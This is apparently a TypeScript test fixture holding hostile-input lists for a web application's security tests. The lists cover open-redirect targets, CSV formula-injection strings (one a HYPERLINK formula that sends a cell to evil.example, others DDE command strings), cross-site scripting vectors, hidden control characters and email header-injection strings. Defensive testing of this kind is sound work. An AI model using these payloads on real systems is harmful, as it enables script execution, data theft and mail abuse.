/**
 * Hostile inputs shared by every area's tests. Tests import a list, try every entry and report
 * how many they tried (`countTried`), so the README's "hostile payloads tried per family"
 * figure comes from the tests themselves. Add to a list rather than keeping a private copy.
 */

/** Redirect targets from the OWASP unvalidated-redirects cheat sheet and common bypass lists. */
export const OPEN_REDIRECT_PAYLOADS = [
  "https://evil.example",
  "//evil.example",
  "///evil.example",
  "////evil.example/",
  "/\\evil.example",
  "\\\\evil.example",
  "\\/evil.example",
  "/%2F%2Fevil.example",
  "/%5Cevil.example",
  "%2F%2Fevil.example",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "http:evil.example",
  "https:/evil.example",
  "/\t/evil.example",
  "/\n/evil.example",
  " //evil.example",
  "/%09/evil.example",
  "/%0d%0a/evil.example",
  "evil.example",
  "@evil.example",
  "/@evil.example/..//",
  "\u3002evil.example",
  "/%E3%80%82evil.example/../..//",
  "",
] as const;

/** OWASP CSV injection payloads: each must come out quoted and, if it starts a formula, prefixed. */
export const CSV_INJECTION_PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  "-2+3+cmd|' /C calc'!A0",
  "@\u200b=1+1",
] as const;

/**
 * Cross-site scripting payloads for free-text fields (names, reasons, notes...): element and
 * attribute injection, broken-out quotes, URL schemes, SVG/MathML and template syntax. Every one
 * must render as inert text.
 */
export const XSS_PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<iframe src=javascript:alert(1)>",
  '<a href="javascript:alert(1)">click</a>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<style>@import 'http://evil.example/x.css';</style>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<!--<img src=x onerror=alert(1)>-->",
] as const;

/**
 * Characters that hide or reorder text, or break lines and headers: free text that reaches a
 * screen, an email header or a log must refuse or neutralise them.
 */
export const INVISIBLE_AND_CONTROL_PAYLOADS = [
  "Ann\u0000a",
  "Ann\u0007a",
  "Anna\r\nBcc: victim@example.com",
  "Anna\nX-Injected: yes",
  "Ann\u200ba",
  "Ann\u200da",
  "\ufeffAnna",
  "Anna\u2060",
  "Anna \u202egnp.exe",
  "\u2066Anna\u2069",
  "Anna\u2028Berg",
  "Anna\u001b[31m",
] as const;

/** Email header injection through display names, subjects and addresses. */
export const HEADER_INJECTION_PAYLOADS = [
  "Anna\r\nBcc: victim@example.com",
  "Anna\nSubject: hijacked",
  "Anna\rTo: victim@example.com",
  "Anna\u0085Cc: victim@example.com",
  "Anna\u2028Cc: victim@example.com",
  "=?utf-8?q?Anna=0D=0ABcc:_victim@example.com?=",
] as const;

const tried = new Map<string, number>();

/** Counts what a test tried, per family; the count is printed when the test file ends. */
export function countTried(family: string, count = 1) {
  tried.set(family, (tried.get(family) ?? 0) + count);
}

export function triedSummary(): string {
  return [...tried.entries()].map(([family, count]) => `${family} ${count}`).join(", ");
}
